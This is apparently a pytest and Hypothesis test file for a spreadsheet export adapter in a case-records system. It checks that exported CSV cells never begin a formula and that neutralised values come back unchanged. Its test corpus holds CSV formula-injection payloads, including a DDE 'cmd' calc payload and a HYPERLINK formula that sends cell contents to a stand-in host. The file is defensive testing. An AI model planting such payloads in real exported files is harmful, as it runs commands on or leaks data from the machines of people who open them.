"""No cell of ours is computed by the program that opens it, and every cell comes back as it was."""

from __future__ import annotations

import csv
import io
import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.adapter import View
from adapters.document import read_table
from adapters.htcds.format import Htcds
from adapters.spreadsheet import neutralise, restore, write_table
from gateway.v1 import record_pb2 as pb
from tests.adapters.htcds.samples import parse

_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_BEFORE = ("", " ", "\t", "\n", "'", "''", "a;", "a,", "a\t", "a\n", "a|", "a; ", '"', 'a";')
_PAYLOADS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://x.example/"&A1,"open")')
CORPUS = [
    before + start + payload for before, start, payload in itertools.product(_BEFORE, _STARTS, _PAYLOADS)
]
_TEXTS = st.one_of(st.text(), st.text(alphabet="=+-@'\t\n\r,;| a1.＝"), st.sampled_from(CORPUS))


def _begins_a_formula(cell: str) -> bool:
    return cell.lstrip().startswith(_STARTS)


def test_corpus_is_as_large_as_the_threat_model_asks() -> None:
    assert len(set(CORPUS)) >= 300


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_cell_begins_a_formula_at_whatever_delimiter_it_is_split(delimiter: str) -> None:
    document = write_table(["a", "b", "c"], [[text, "x", text] for text in CORPUS])

    rows = list(csv.reader(io.StringIO(document, newline=""), delimiter=delimiter))
    lines = [cell for row in rows for cell in row] + document.replace('"', "").splitlines()

    assert [cell for cell in lines if _begins_a_formula(cell)] == []


@given(_TEXTS)
def test_what_is_neutralised_is_restored(text: str) -> None:
    assert restore(neutralise(text)) == text


@given(st.lists(st.lists(_TEXTS, min_size=2, max_size=2), min_size=1, max_size=3))
def test_written_table_is_read_as_it_was(rows: list[list[str]]) -> None:
    document = write_table(["first", "second"], rows)

    stated = [row for row in rows if any(cell.strip() for cell in row)]
    assert [cells for _, cells in read_table(document)[1]] == stated


def test_long_runs_of_separators_take_no_longer_than_other_text() -> None:
    for run in ("\n", ";", " ", "'", "; ", ";'"):
        text = run * (200_000 // len(run))

        assert restore(neutralise(text)) == text


def test_ordinary_cells_and_negative_numbers_stay_as_they_are() -> None:
    for cell in ("Ana-Maria", "O'Neill", "a - b", "-12.5", "1988-05", "x = y"):
        assert neutralise(cell) == cell
        assert restore(cell) == cell


def test_telephone_number_is_text_in_a_spreadsheet_and_itself_for_our_reader() -> None:
    record = pb.Record()
    person = record.persons.add(id="person/aaaaaaaaaa", role=pb.ROLE_UNKNOWN)
    person.contacts.add(kind=pb.CONTACT_KIND_PHONE, value="+99955540001")

    data = Htcds().render([View(record=record)], form="csv").data

    assert data == b'"prs_MobilePhone"\r\n"\'+99955540001"\r\n'
    assert parse(data)[0].record.persons[0].contacts[0].value == "+99955540001"


@pytest.mark.parametrize("field", ["name", "platform", "comment", "vulnerability", "premises"])
def test_corpus_comes_through_every_text_of_a_record(field: str) -> None:
    separators = (";", "|") if field in ("platform", "vulnerability") else ()
    texts = [text.strip() for text in CORPUS if not any(each in text for each in separators)]
    views = [View(record=_holding(field, text)) for text in texts]

    data = Htcds().render(views, form="csv").data

    cells = [cell for row in csv.reader(io.StringIO(data.decode(), newline="")) for cell in row]
    assert [cell for cell in cells if _begins_a_formula(cell)] == []
    read = [draft.record.SerializeToString() for draft in parse(data)]
    assert [text for text, record in zip(texts, read, strict=True) if text.encode() not in record] == []


def _holding(field: str, text: str) -> pb.Record:
    record = pb.Record()
    person = record.persons.add(id="person/aaaaaaaaaa", role=pb.ROLE_PRESUMED_VICTIM)
    person.trafficking_status = pb.TRAFFICKING_STATUS_POSSIBLE_VICTIM
    if field == "name":
        person.names.add(family=text)
    elif field == "platform":
        record.incidents.add(id="incident/aaaaaaaaaa").platforms.append(text)
    elif field == "comment":
        record.narratives.add(id="narrative/aaaaaaaaaa").text = text
    elif field == "vulnerability":
        person.health.vulnerabilities.append(text)
    else:
        person.workplaces.add(kind=pb.WORKPLACE_KIND_PLACE_OF_EXPLOITATION, name=text)
    return record
